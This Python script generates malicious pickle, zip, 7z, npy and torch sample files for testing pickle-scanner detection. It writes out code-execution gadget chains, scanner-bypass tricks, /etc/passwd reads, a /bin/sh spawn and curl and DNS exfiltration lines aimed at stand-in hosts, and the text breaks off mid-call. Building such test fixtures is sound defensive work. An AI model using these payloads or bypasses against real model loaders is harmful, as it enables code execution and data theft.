#!/usr/bin/env python3
"""Rebuilds the sample files of the public pickle scanners' own test suites.

picklescan (mmaitre314/picklescan: tests/test_scanner.py, tests/init_data_files.py, tests/data*),
fickling (trailofbits/fickling: test/*.py) and modelscan (protectai/modelscan: tests/*.py) each test
their scanner on files their tests write or ship. This script writes our own reconstruction of every
distinct one of those files into tests/peers/samples/<peer>/ together with samples/expected.json:

    {"<peer>/<file>": {"peer": ..., "test": "<their test>", "malicious": true|false,
                       "asserted": true|false, "torch_loads": true|false|null, "sha256": ...,
                       "note": "...", "also": [{"peer", "test", "name"}]}}

`malicious` is what THEIR test asserts about the file (`asserted: false` marks files whose test checks
something else, e.g. format detection or interpretation; then `malicious` is what the file plainly
does). `also` lists other peers' tests that use byte-identical files. `torch_loads` is whether
`torch.load(path, weights_only=True)` of torch 2.15.0 accepts the file.

Nothing here ever unpickles a sample: the payloads are built from stand-ins (`Ref`) that name a
function without importing it, and every command in them is harmless (`id`, `echo pwned`, ...).

Usage (the sample files are committed; CI only reads them):

    # write the samples (needs numpy, torch, py7zr, dill, cloudpickle: /work/torchenv has them)
    /work/torchenv/bin/python gen/make_peer_samples.py
    # ... and ask torch 2.15 about each one (each torch.load runs in its own forked child, in a
    # scratch directory, weights_only=True, 20 s timeout)
    /work/torchenv/bin/python gen/make_peer_samples.py --torch /work/torchenv/bin/python

Without --torch, the torch answers recorded for files whose bytes did not change are kept; the
others become null (and tests/peers.rs fails until --torch is run).
"""

import argparse
import _compat_pickle
import bdb
import functools
import hashlib
import io
import json
import operator
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

# The samples go to tests/peers/samples/ (this script sits in gen/, under the repository root).
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
DEFAULT_OUT = os.path.join(ROOT, "tests", "peers", "samples")


# ---------------------------------------------------------------------------------------------
# Building blocks
# ---------------------------------------------------------------------------------------------

class Ref:
    """Stands for the global `module.qualname` without importing it; pickles as that global."""

    _made = {}

    def __new__(cls, module, qualname):
        key = (module, qualname)
        if key not in cls._made:
            obj = super().__new__(cls)
            obj.module, obj.qualname = key
            obj.__name__ = qualname.rpartition(".")[2]
            cls._made[key] = obj
        return cls._made[key]

    def __call__(self, *args, **kwargs):
        raise RuntimeError("inert stand-in; never called")

    def __repr__(self):
        return f"Ref({self.module}.{self.qualname})"


class Call:
    """An object whose pickle calls `func(*args)` when loaded (a `__reduce__` payload)."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


class Reduced:
    """An object whose `__reduce__` returns exactly `value`."""

    def __init__(self, value):
        self.value = value

    def __reduce__(self):
        return self.value


class RefPickler(pickle._Pickler):
    """The pure-Python pickler, taught to write a `Ref` the way it writes a real global."""

    dispatch = pickle._Pickler.dispatch.copy()

    def save_ref(self, obj):
        module, name = obj.module, obj.qualname
        parent, _, last = name.rpartition(".")
        if self.proto >= 4:
            self.save(module)
            self.save(name)
            self.write(pickle.STACK_GLOBAL)
        elif parent:
            self.save_reduce(getattr, (Ref(module, parent), last))
        else:
            if self.proto < 3 and self.fix_imports:
                if (module, name) in _compat_pickle.REVERSE_NAME_MAPPING:
                    module, name = _compat_pickle.REVERSE_NAME_MAPPING[(module, name)]
                elif module in _compat_pickle.REVERSE_IMPORT_MAPPING:
                    module = _compat_pickle.REVERSE_IMPORT_MAPPING[module]
            self.write(pickle.GLOBAL + module.encode() + b"\n" + name.encode() + b"\n")
        self.memoize(obj)

    dispatch[Ref] = save_ref


def dumps(obj, proto=4):
    f = io.BytesIO()
    RefPickler(f, proto).dump(obj)
    return f.getvalue()


class InjectingPickler(RefPickler):
    """Writes the `injected` objects into the same pickle as the real object, before it, leaving
    their results on the stack (the way modelscan's test helper `PickleInject` builds files)."""

    def __init__(self, file, protocol, injected):
        super().__init__(file, protocol)
        self.injected = injected

    def dump(self, obj):
        if self.proto >= 2:
            self.write(pickle.PROTO + struct.pack("<B", self.proto))
        if self.proto >= 4:
            self.framer.start_framing()
        for extra in self.injected:
            self.save(extra)
        self.save(obj)
        self.write(pickle.STOP)
        self.framer.end_framing()


class InjectingModule:
    """A `pickle_module` for torch.save whose Pickler injects payloads."""

    __name__ = "injecting_pickle"

    def __init__(self, injected):
        class Pickler(InjectingPickler):  # torch.save subclasses it
            def __init__(self, file, protocol=None, **_kwargs):
                super().__init__(file, protocol, injected)

        self.Pickler = Pickler


def dumps_injected(obj, injected, proto=4):
    f = io.BytesIO()
    InjectingPickler(f, proto, injected).dump(obj)
    return f.getvalue()


# Raw opcodes, for the samples the peers write opcode by opcode.
def op_proto(n):
    return b"\x80" + bytes([n])


def op_frame(n):
    return b"\x95" + struct.pack("<Q", n)


def sbu(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def binunicode(s):  # BINUNICODE
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def uni(s):  # UNICODE (text)
    return b"V" + s.encode("raw_unicode_escape") + b"\n"


def string(s):  # STRING (text, repr-quoted)
    return b"S" + repr(s).encode() + b"\n"


def short_binbytes(b):
    return b"C" + bytes([len(b)]) + b


def glob(module, name):  # GLOBAL
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def binget(n):
    return b"h" + bytes([n])


def binput(n):
    return b"q" + bytes([n])


def put(n):
    return b"p" + str(n).encode() + b"\n"


def get(n):
    return b"g" + str(n).encode() + b"\n"


def binint1(n):
    return b"K" + bytes([n])


def binint2(n):
    return b"M" + struct.pack("<H", n)


MEMO, STACK_GLOBAL, TUPLE1, TUPLE2, TUPLE3 = b"\x94", b"\x93", b"\x85", b"\x86", b"\x87"
REDUCE, BUILD, STOP, MARK, OBJ, TUPLE, EMPTY_TUPLE = b"R", b"b", b".", b"(", b"o", b"t", b")"
EMPTY_DICT, EMPTY_LIST, EMPTY_SET, APPEND, APPENDS, SETITEM = b"}", b"]", b"\x8f", b"a", b"e", b"s"
ADDITEMS, POP, POP_MARK, DUP, LIST, NONE, NEWTRUE = b"\x90", b"0", b"1", b"2", b"l", b"N", b"\x88"


def framed4(body):
    """Protocol 4 with one frame holding the whole body (as CPython writes a small pickle)."""
    return op_proto(4) + op_frame(len(body)) + body


def zip_bytes(members, flag_bits=0):
    """A deterministic zip (fixed timestamps, stored) of (name, bytes) members."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.create_system = 3
            info.external_attr = 0o600 << 16
            z.writestr(info, data)
    data = bytearray(buf.getvalue())
    if flag_bits:
        for sig, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            i = data.find(sig)
            while i >= 0:
                struct.pack_into("<H", data, i + at, struct.unpack_from("<H", data, i + at)[0] | flag_bits)
                i = data.find(sig, i + 4)
    return bytes(data)


def zipcrypto_zip(name, plain, password=b"password"):
    """A zip whose one member is encrypted with traditional PKWARE encryption (ZipCrypto)."""
    crc_table = [0] * 256
    for i in range(256):
        c = i
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        crc_table[i] = c
    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(ch):
        keys[0] = (keys[0] >> 8) ^ crc_table[(keys[0] ^ ch) & 0xFF]
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = (keys[2] >> 8) ^ crc_table[(keys[2] ^ (keys[1] >> 24)) & 0xFF]

    for ch in password:
        update(ch)
    crc = zlib.crc32(plain) & 0xFFFFFFFF
    header = bytes(range(11)) + bytes([crc >> 24])
    out = bytearray()
    for ch in header + plain:
        k = (keys[2] | 2) & 0xFFFF
        out.append(ch ^ (((k * (k ^ 1)) >> 8) & 0xFF))
        update(ch)
    nm = name.encode()
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 1, 0, 0, 0x21, crc, len(out), len(plain), len(nm), 0) + nm
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 1, 0, 0, 0x21, crc, len(out), len(plain),
                          len(nm), 0, 0, 0, 0, 0, 0) + nm
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + len(out), 0)
    return bytes(local + out + central + end)


def tar_bytes(members):
    """A tar of (name, bytes-or-None-for-a-directory) members, fixed times."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.mtime = 0
            if data is None:
                info.type = tarfile.DIRTYPE
                info.mode = 0o755
                t.addfile(info)
            else:
                info.size = len(data)
                info.mode = 0o644
                t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def sevenz_bytes(members):
    import py7zr

    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "a.7z")
        with py7zr.SevenZipFile(path, "w") as archive:
            for name, data in members:
                archive.writestr(data, name)
        with open(path, "rb") as f:
            return f.read()


def npy_bytes(array, allow_pickle=True):
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=allow_pickle)
    return buf.getvalue()


def npz_bytes(compressed=False, **arrays):
    import numpy as np

    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "a.npz")
        (np.savez_compressed if compressed else np.savez)(path, **arrays)
        with open(path, "rb") as f:
            return f.read()


def torch_save_bytes(obj, zipfile_format=True, pickle_module=None, name="archive"):
    import torch

    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, name + ".pt")
        kwargs = {"_use_new_zipfile_serialization": zipfile_format}
        if pickle_module is not None:
            kwargs["pickle_module"] = pickle_module
        torch.save(obj, path, **kwargs)
        with open(path, "rb") as f:
            return f.read()


# ---------------------------------------------------------------------------------------------
# The registry of samples
# ---------------------------------------------------------------------------------------------

class Samples:
    def __init__(self):
        self.entries = {}  # rel path -> entry
        self.by_hash = {}  # sha256 -> rel path
        self.data = {}

    def add(self, peer, name, data, test, malicious, asserted=True, note=None):
        assert isinstance(data, (bytes, bytearray)), name
        data = bytes(data)
        digest = hashlib.sha256(data).hexdigest()
        rel = f"{peer}/{name}"
        if digest in self.by_hash:
            first = self.entries[self.by_hash[digest]]
            if first["malicious"] != malicious and asserted and first["asserted"]:
                raise SystemExit(f"{rel} is the same file as {self.by_hash[digest]} but the tests disagree")
            first.setdefault("also", []).append({"peer": peer, "test": test, "name": name})
            return
        assert rel not in self.entries, rel
        entry = {"peer": peer, "test": test, "malicious": malicious, "asserted": asserted,
                 "torch_loads": None, "sha256": digest}
        if note:
            entry["note"] = note
        self.entries[rel] = entry
        self.by_hash[digest] = rel
        self.data[rel] = data


# ---------------------------------------------------------------------------------------------
# picklescan
# ---------------------------------------------------------------------------------------------

PAYLOAD = "__import__('os').system('whoami')"


def picklescan(s):
    P = "picklescan"
    T_FILE = "test_scanner.py::test_scan_file_path"
    T_DIR = "test_scanner.py::test_scan_directory_path"

    eval_ = Ref("builtins", "eval")
    system = Ref("posix", "system")
    malicious1 = Call(eval_, "print('456')")
    malicious2 = Call(system, "ls -la")

    for v in (0, 3, 4):
        s.add(P, f"benign0_v{v}.pkl", pickle.dumps(["a", "b", "c"], protocol=v), T_FILE, False)
        s.add(P, f"malicious1_v{v}.pkl", dumps(malicious1, v), T_FILE, True)
        s.add(P, f"malicious2_v{v}.pkl", dumps(malicious2, v), T_FILE, True)
    # tests/data/benign0_v4.pkl ... is listed by the directory filter tests.

    # Sour pickles (BlackHat 2011): globals/compile/eval/getattr/apply chain, protocol 0 text.
    s.add(P, "malicious0.pkl",
          b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=open(\"/etc/passwd\");picklesmashed=fl.read();"
          b"'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\n"
          b"dict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n.",
          T_FILE, True)
    # INST opcode calling __builtin__.exec
    s.add(P, "malicious10.pkl", MARK + string('raise RuntimeError("Injection running")') + b"i__builtin__\nexec\n" + STOP,
          T_DIR, True)
    # CTF "Safe Pickle": STACK_GLOBAL of memoized strings, torch/LongStorage decoys in the memo.
    ctf = (uni("os") + put(2) + POP + uni("system") + put(3) + POP + uni("torch") + put(0) + POP
           + uni("LongStorage") + put(1) + POP + get(2) + get(3) + STACK_GLOBAL + MARK + uni("cat flag.txt")
           + TUPLE + REDUCE + STOP)
    s.add(P, "malicious11.pkl", ctf, T_DIR, True)
    s.add(P, "malicious-invalid-bytes.pkl", ctf + b"\n\n\t\t", "test_scanner.py::test_invalid_bytes_err", True)
    # operator.attrgetter("system")(__import__("os"))("echo pwned"), memoizing everything (pickleassem)
    s.add(P, "malicious12.pkl",
          op_proto(4) + sbu("operator") + MEMO + sbu("attrgetter") + MEMO + STACK_GLOBAL + MEMO
          + sbu("system") + MEMO + TUPLE1 + MEMO + REDUCE + MEMO
          + sbu("builtins") + MEMO + sbu("__import__") + MEMO + STACK_GLOBAL + MEMO
          + sbu("os") + MEMO + TUPLE1 + MEMO + REDUCE + MEMO + TUPLE1 + MEMO + REDUCE + MEMO
          + sbu("echo pwned") + MEMO + TUPLE1 + MEMO + REDUCE + MEMO + STOP,
          T_DIR, True)
    # Overwrites torch._utils's dict so that STACK_GLOBAL of memoized names yields builtins.eval.
    s.add(P, "sys_module_override_sploit.pkl",
          op_proto(4) + uni("torch._utils") + MEMO + uni("_rebuild_tensor") + MEMO + STACK_GLOBAL + MEMO + POP
          + uni("torch") + uni("_utils") + STACK_GLOBAL + MEMO + POP
          + binget(3) + EMPTY_DICT + binget(1) + uni("builtins") + SETITEM + BUILD + POP
          + binget(0) + binget(1) + STACK_GLOBAL
          + binget(3) + EMPTY_DICT + binget(1) + uni("eval") + SETITEM + BUILD + POP
          + binget(0) + binget(1) + STACK_GLOBAL + STACK_GLOBAL
          + uni('exec("""print("pwned")""")') + TUPLE1 + REDUCE + STOP,
          T_DIR, True)

    s.add(P, "malicious3.pkl", dumps(Call(Ref("http.client", "HTTPSConnection"), "github.com"), 0), T_FILE, True)
    malicious4 = Call(Ref("requests.api", "get"), "https://github.com")
    s.add(P, "malicious4.pickle", dumps(malicious4, 4), T_FILE, True)
    s.add(P, "malicious5.pickle", dumps(Call(Ref("aiohttp.client", "ClientSession")), 4), T_FILE, True)
    s.add(P, "malicious6.pkl", pickle.dumps(["a", "b", "c"], protocol=4) + dumps(malicious4, 4), T_FILE, True,
          note="a benign pickle followed by a malicious one")
    s.add(P, "malicious7.pkl", dumps(Call(Ref("socket", "create_connection"), ("github.com", 80)), 4), T_FILE, True)
    s.add(P, "malicious8.pkl", dumps(Call(Ref("subprocess", "run"), ["ls", "-l"]), 4), T_FILE, True)
    s.add(P, "malicious9.pkl", dumps(Call(Ref("sys", "exit"), 0), 4), T_FILE, True)
    loads = Ref("_pickle", "loads")
    s.add(P, "malicious13a.pkl", dumps(Call(loads, b"I12345\n."), 0), T_DIR, True)
    s.add(P, "malicious13b.pkl", dumps(Call(loads, b"I12345\n."), 4), T_DIR, True)
    s.add(P, "malicious14.pkl", dumps(Call(Ref("runpy", "_run_code"), "print('456')"), 4), T_FILE, True)
    bd = bdb.Bdb()
    bdb_run = Call(Ref("bdb", "Bdb.run"), bd, 'import os\nos.system("whoami")')
    s.add(P, "malicious15a.pkl", dumps(bdb_run, 2), T_DIR, True)
    s.add(P, "malicious15b.pkl", dumps(bdb_run, 4), T_DIR, True)
    s.add(P, "malicious16.pkl",
          dumps(Call(Ref("pip", "main"), ["install", "some_malicious_package", "--no-input", "-q", "-q", "-q",
                                          "--exists-action", "i", "--isolated"]), 0), T_DIR, True)
    s.add(P, "malicious17.pkl",
          dumps(Call(Ref("torch._inductor.codecache", "compile_file"), "", "", ["sh", "-c", '$(echo "pwned")']), 4),
          T_DIR, True)
    s.add(P, "malicious18.pkl", dumps(Call(Ref("pydoc", "pipepager"), "", 'echo "pwned"'), 4), T_DIR, True)
    part = functools.partial(Ref("torch.serialization", "load"), "some_other_model.bin",
                             pickle_file="config.json", weights_only=False)
    s.add(P, "malicious19.pkl", dumps(Reduced((part, ())), 4), T_DIR, True,
          note="functools.partial(torch.load, ..., weights_only=False)")
    s.add(P, "malicious20.pkl", dumps(Call(Ref("venv", "create"), "venv", False, False, True, False, "$(echo pwned)"), 4),
          T_DIR, True)
    s.add(P, "malicious21.pkl",
          dumps(Call(Ref("timeit", "timeit"), "", 'import os; os.system("curl https://webhook.invalid/1234")'), 4),
          T_FILE, True)
    s.add(P, "malicious22.pkl",
          dumps(Call(Ref("numpy.testing._private.utils", "runstring"),
                     "import os; os.system('curl https://example.invalid')", {}), 4), T_FILE, True)
    # STACK_GLOBAL fed by protocol-0 STRING opcodes, no PROTO (GHSA-9gvj-pp9x-gcfr)
    s.add(P, "malicious23.pkl", string("os") + string("system") + STACK_GLOBAL + string("ls") + TUPLE1 + REDUCE + STOP,
          T_FILE, True)

    s.add(P, "broken_model.pkl",
          b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX.", T_DIR, True,
          note="BINUNICODE length runs past the end: builtins.exec then a parse error")
    s.add(P, "not_a_pickle.bin", b"cmod\n\xf8\n", "test_scanner.py::test_not_a_pickle_file", False,
          note="GLOBAL with a name that is not UTF-8")
    s.add(P, "bad_pytorch.pt", b"\211PNG\r\n\032\n", T_FILE, False, note="a PNG header named .pt")

    # The legacy torch format whose magic number comes from eval(), then an os.system pickle.
    magic = Call(Ref("builtins", "eval"), "0x1950A86A20F9469CFC6C")
    s.add(P, "pytorch_magic_bypass.pt",
          dumps(magic, 2) + pickle.dumps(1001, protocol=2) + pickle.dumps({}, protocol=2)
          + pickle.dumps([], protocol=2) + dumps(Call(system, "echo pwned"), 2) + pickle.dumps(None, protocol=2),
          "test_scanner.py::test_scan_pytorch", True)

    m1 = dumps(malicious1, 4)
    s.add(P, "malicious1.zip", zip_bytes([("data.pkl", m1)]), T_FILE, True)
    cd = zip_bytes([("data.pkl", m1)])
    s.add(P, "malicious1_central_directory.zip", cd.replace(b"data.pkl", b"datap.kl", 1), T_FILE, True,
          note="local header names datap.kl, the central directory data.pkl")
    s.add(P, "malicious1_crc.zip", zip_bytes([("data.pkl", m1)]).replace(b"print('456')", b"print('123')", 1),
          T_FILE, True, note="member bytes no longer match the CRC")
    s.add(P, "malicious1_wrong_ext.zip", zip_bytes([("data.txt", m1)]), T_FILE, True)
    for bits in (0x1, 0x20, 0x40):
        s.add(P, f"malicious1_0x{bits:x}.zip", zip_bytes([("model/config.pkl", m1)], flag_bits=bits), T_FILE, True,
              note=f"general purpose flag 0x{bits:x} set (claims encryption/patch data) on a plain stored member")
    s.add(P, "malicious1.7z", sevenz_bytes([("data.pkl", m1)]), T_FILE, True)
    s.add(P, "benign_password_protected.zip", zipcrypto_zip("test.txt", b"hello, world!\r\n"),
          "test_scanner.py::test_scan_directory_path", False, note="ZipCrypto-encrypted text member")

    import torch

    sd = torch.nn.Linear(4, 3).state_dict()
    s.add(P, "pytorch_model.bin", torch_save_bytes(sd, zipfile_format=False), "test_scanner.py::test_scan_pytorch",
          False, note="legacy (non-zip) state dict; theirs is a 245 KB BERT-like one")
    s.add(P, "new_pytorch_model.bin", torch_save_bytes(torch.zeros(3, 4), name="archive"),
          "test_scanner.py::test_scan_pytorch", False, note="zip checkpoint of one tensor")

    # data2: one file per advisory, each a protocol-4 pickle calling one function.
    def reduce_file(name, func, *args, test=None):
        s.add(P, name, dumps(Call(func, *args), 4), test or T_FILE, True)

    R = Ref
    collect_run = R("torch.utils.collect_env", "run")
    reduce_file("GHSA-4r9r-ch6f-vxmx.pkl", R("torch.utils.bottleneck.__main__", "run_cprofile"), PAYLOAD, {})
    reduce_file("GHSA-86cj-95qr-2p4f.pkl", R("torch._dynamo.guards", "GuardBuilder.get"), {}, PAYLOAD)
    reduce_file("GHSA-f4x7-rfwp-v3xw.pkl", R("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
                {}, PAYLOAD, [])
    reduce_file("GHSA-f745-w6jp-hpxx.pkl", collect_run, PAYLOAD)
    reduce_file("GHSA-jhph-76pp-mggw.pkl", R("torch.utils.collect_env", "run_and_read_all"), collect_run, PAYLOAD)
    reduce_file("GHSA-h3qp-7fh3-f8h4.pkl", R("torch.utils.data.datapipes.utils.decoder", "basichandlers"), "pickle", b"")
    reduce_file("GHSA-vr7h-p6mm-wpmh.pkl", R("torch.jit.unsupported_tensor_ops", "execWrapper"), PAYLOAD, {}, {})
    reduce_file("GHSA-vv6j-3g6g-2pvj.pkl", R("torch.utils._config_module", "ConfigModule.load_config"), {}, b"")
    reduce_file("GHSA-5qwp-399c-mjwf.pkl", R("trace", "Trace.run"), {}, PAYLOAD)
    reduce_file("GHSA-g344-hcph-8vgg.pkl", R("trace", "Trace.runctx"), {}, PAYLOAD, {}, {})
    reduce_file("GHSA-x696-vm39-cp64.pkl", R("profile", "Profile.run"), {}, PAYLOAD)
    reduce_file("GHSA-6vqj-c2q5-j97w.pkl", R("profile", "Profile.runctx"), {}, PAYLOAD, {}, {})
    reduce_file("GHSA-f54q-57x4-jg88.pkl", R("lib2to3.pgen2.grammar", "Grammar.loads"), {}, b"")
    reduce_file("GHSA-3vg9-h568-4w9m.pkl", R("idlelib.debugobj", "ObjectTreeItem.SetText"), {}, PAYLOAD)
    reduce_file("GHSA-6w4w-5w54-rjvr.pkl", R("idlelib.autocomplete", "AutoComplete.get_entity"), {}, PAYLOAD)
    reduce_file("GHSA-7cq8-mj8x-j263.pkl", R("idlelib.autocomplete", "AutoComplete.fetch_completions"), {}, PAYLOAD, 0)
    reduce_file("GHSA-cj3c-v495-4xqh.pkl", R("code", "InteractiveInterpreter.runcode"), {}, PAYLOAD)
    reduce_file("GHSA-8r4j-24qv-fmq9.pkl", R("idlelib.calltip", "Calltip.fetch_tip"), {}, PAYLOAD)
    reduce_file("GHSA-9xph-j2h6-g47v.pkl", R("idlelib.calltip", "get_entity"), PAYLOAD)
    reduce_file("GHSA-4whj-rm5r-c2v8.pkl", R("torch.utils.bottleneck.__main__", "run_autograd_prof"), PAYLOAD, {})
    reduce_file("GHSA-xp4f-hrf8-rxw7.pkl", R("ensurepip", "_run_pip"), PAYLOAD)
    reduce_file("GHSA-p9w7-82w4-7q8m.pkl", R("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), None, {}, '""+' + PAYLOAD)
    reduce_file("GHSA-vvpj-8cmc-gx39.pkl", R("pkgutil", "resolve_name"), "os:system")
    reduce_file("GHSA-m869-42cg-3xwr.pkl", R("idlelib.run", "Executive.runcode"), {}, PAYLOAD)
    reduce_file("GHSA-j343-8v2j-ff7w.pkl", R("idlelib.pyshell", "ModifiedInterpreter.runcommand"), {}, PAYLOAD)
    reduce_file("GHSA-3gf5-cxq9-w223.pkl", R("idlelib.pyshell", "ModifiedInterpreter.runcode"), {}, PAYLOAD)
    reduce_file("GHSA-fqq6-7vqf-w3fg.pkl", R("doctest", "debug_script"), PAYLOAD, True)
    reduce_file("GHSA-9w88-8rmg-7g2p.pkl", R("cProfile", "runctx"), PAYLOAD, None, None)
    reduce_file("GHSA-49gj-c84q-6qm9.pkl", R("cProfile", "run"), PAYLOAD)
    reduce_file("GHSA-7wx9-6375-f5wh.pkl", R("profile", "run"), PAYLOAD)
    start = R("asyncio.unix_events", "_UnixSubprocessTransport._start")
    reduce_file("GHSA-q77w-mwjj-7mqx.pkl", start, {}, "whoami", True, None, None, None, 0)
    s.add(P, "GHSA-jgw4-cr84-mqxg.bin", dumps(Call(start, {}, "whoami", True, None, None, None, 0), 4) + b"", T_FILE, True,
          note="same payload as GHSA-q77w with a .bin name")
    reduce_file("GHSA-m273-6v24-x4m4.pkl", R("distutils.file_util", "write_file"), "pwned_config.env", ["malicious content"])
    reduce_file("GHSA-4675-36f9-wf6r.pkl", R("ctypes", "CDLL"), None)
    # operator.methodcaller("system", "echo pwned")(pydoc.locate("os"))
    s.add(P, "GHSA-84r2-jw7c-4r5q.pkl",
          dumps(Reduced((operator.methodcaller("system", "echo pwned"), (Call(R("pydoc", "locate"), "os"),))), 4),
          T_FILE, True)
    reduce_file("GHSA-vqmv-47xg-9wpr.pkl", R("pty", "spawn"), ["/bin/sh", "-c", "id; exit"])
    reduce_file("GHSA-r8g5-cgf2-4m4m.pkl", R("numpy.f2py.crackfortran", "getlincoef"), PAYLOAD, [])
    reduce_file("io_FileIO.pkl", R("_io", "FileIO"), "/etc/hosts", "r")
    reduce_file("urllib_request_urlopen.pkl", R("urllib.request", "urlopen"), "https://example.invalid")
    reduce_file("logging_FileHandler.pkl", R("logging", "FileHandler"), "evil.log")
    reduce_file("GHSA-g38g-8gr9-h9xp-uuid.pkl", R("uuid", "_get_command_stdout"), "id")
    reduce_file("GHSA-g38g-8gr9-h9xp-osx-support.pkl", R("_osx_support", "_read_output"), "id")
    reduce_file("GHSA-g38g-8gr9-h9xp-aix-support.pkl", R("_aix_support", "_read_cmd_output"), "id")
    reduce_file("GHSA-g38g-8gr9-h9xp-imaplib.pkl", R("imaplib", "IMAP4_stream"), "id")
    s.add(P, "GHSA-g38g-8gr9-h9xp-pyrepl-pager.pkl",
          op_proto(4) + sbu("_pyrepl.pager") + sbu("pipe_pager") + STACK_GLOBAL + sbu("text") + sbu("id") + TUPLE2
          + REDUCE + STOP, T_FILE, True)
    s.add(P, "GHSA-g38g-8gr9-h9xp-test.pkl",
          op_proto(4) + sbu("test.support.script_helper") + sbu("assert_python_ok") + STACK_GLOBAL + sbu("-c pass")
          + TUPLE1 + REDUCE + STOP, T_FILE, True)
    # builtins.__import__("os") then _operator.methodcaller / attrgetter, protocol 0
    imp_os = glob("builtins", "__import__") + MARK + uni("os") + TUPLE + REDUCE + put(0) + POP
    s.add(P, "GHSA-955r-x9j8-7rhh.pkl",
          imp_os + glob("_operator", "methodcaller") + MARK + uni("system") + uni('echo "pwned by _operator.methodcaller"')
          + TUPLE + REDUCE + MARK + get(0) + TUPLE + REDUCE + STOP, T_FILE, True)
    s.add(P, "GHSA-46h3-79wf-xr6c.pkl",
          imp_os + glob("_operator", "attrgetter") + MARK + uni("system") + TUPLE + REDUCE + MARK + get(0) + TUPLE
          + REDUCE + MARK + uni('echo "pwned by _operator.attrgetter"') + TUPLE + REDUCE + STOP, T_FILE, True)
    # os.system first, then STACK_GLOBAL of a memo key that does not exist / of (42, "os")
    s.add(P, "keyerror-exploit.pkl",
          op_proto(4) + glob("os", "system") + uni('echo "pwned by memo keyerror"') + TUPLE1 + REDUCE + POP
          + sbu("os") + MEMO + binget(3) + binget(0) + STACK_GLOBAL + binint1(0x42) + STOP, T_FILE, True)
    s.add(P, "type-confusion-exploit.pkl",
          op_proto(4) + glob("os", "system") + uni('echo "type-confusion-exploit"') + TUPLE1 + REDUCE + POP
          + b"J" + struct.pack("<i", 42) + MEMO + sbu("os") + MEMO + binget(0) + binget(1) + STACK_GLOBAL
          + binint1(0x42) + STOP, T_FILE, True)

    # types.CodeType(...) built from a compiled code object's fields
    import cloudpickle
    from cloudpickle.cloudpickle import _code_reduce

    _, code_args = _code_reduce(compile("print('CodeType serialization succeeded')", "<dynamic_code>", "exec"))
    body = pickle.dumps(code_args, protocol=4)
    s.add(P, "types_CodeType.pkl",
          op_proto(4) + sbu("types") + MEMO + sbu("CodeType") + MEMO + STACK_GLOBAL + MEMO + body[2:-1] + REDUCE + STOP,
          T_FILE, True)

    def make_evil():
        import builtins as b

        class EvilClass:
            @staticmethod
            def _obfuscated_eval(payload):
                getattr(b, "eval")(payload)

            def __reduce__(self):
                return self._obfuscated_eval, ("__import__('os').system('echo \"successful attack\"')",)

        return EvilClass()

    s.add(P, "cloudpickle_codeinjection.pkl", cloudpickle.dumps(make_evil()), T_FILE, True,
          note="cloudpickle function by value (CodeType via _builtin_type)")

    # numpy
    import numpy as np

    T_NPY = "test_scanner.py::test_scan_numpy"
    T_NPZ = "test_scanner.py::test_scan_file_path_npz"
    x = np.empty((2, 2), dtype=object)
    x[:] = [(1, 2), (3, 4)]
    s.add(P, "object_array.npy", npy_bytes(x), T_NPY, False, note="object array: numpy globals only")
    y = np.empty((2, 2), dtype=int)
    y[:] = [(1, 2), (3, 4)]
    s.add(P, "int_array.npy", npy_bytes(y), T_NPY, False)
    obj3 = dict(a=np.array([0, 1, 2], dtype=object), b=np.array([3, 4, 5], dtype=object))
    int3 = dict(a=np.array([0, 1, 2], dtype=int), b=np.array([3, 4, 5], dtype=int))
    s.add(P, "object_arrays.npz", npz_bytes(**obj3), T_NPZ, False)
    s.add(P, "int_arrays.npz", npz_bytes(**int3), T_NPZ, False)
    s.add(P, "object_arrays_compressed.npz", npz_bytes(True, **obj3), T_NPZ, False)
    s.add(P, "int_arrays_compressed.npz", npz_bytes(True, **int3), T_NPZ, False)
    import ssl

    # Theirs embeds the first line of /etc/passwd in the host name; ours a constant.
    dns = Call(ssl.get_server_certificate, ("root_x_0_0_root__root__bin_bash.dns-logger.invalid", 443))
    s.add(P, "dns_exfiltration.npy", npy_bytes(np.array([dns], dtype=object)), T_NPY, True,
          note="object array whose element reduces to ssl.get_server_certificate")

    # Inline files of test_scanner.py
    s.add(P, "scan_pickle_bytes.pkl", dumps(malicious1, 4), "test_scanner.py::test_scan_pickle_bytes", True)
    s.add(P, "suspicious_counter.pkl", dumps(Call(Ref("collections", "Counter"), [1, 2, 3]), 4),
